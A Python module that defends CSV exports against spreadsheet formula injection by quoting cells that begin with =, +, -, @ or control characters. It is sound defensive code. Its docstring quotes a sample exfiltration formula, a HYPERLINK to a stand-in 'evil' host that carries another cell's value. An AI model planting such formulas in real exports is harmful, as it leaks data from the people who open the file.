"""Cells of a CSV a person will open in a spreadsheet.

Excel, LibreOffice and Google Sheets read a cell that starts with = + - @ (or a tab, CR or
LF before one) as a formula, so a value a client chose (`=HYPERLINK("https://evil/?"&A1)`)
runs on the machine of whoever opens the export. Following OWASP's CSV injection
guidance, such a cell gets a leading single quote, which spreadsheets take as "text" and
hide; quoting and escaping the cell otherwise is the csv module's job (RFC 4180). Every
CSV the project writes passes each cell through `spreadsheet_safe`.
"""

# OWASP's list, plus NUL (ASVS 1.2.10) and LF, which some readers skip before a formula.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "\0")


def spreadsheet_safe(value: object) -> object:
    """`value`, a string starting like a formula prefixed with a single quote.

    Numbers stay numbers: the csv module writes -5 as a number, not a formula.
    """
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value
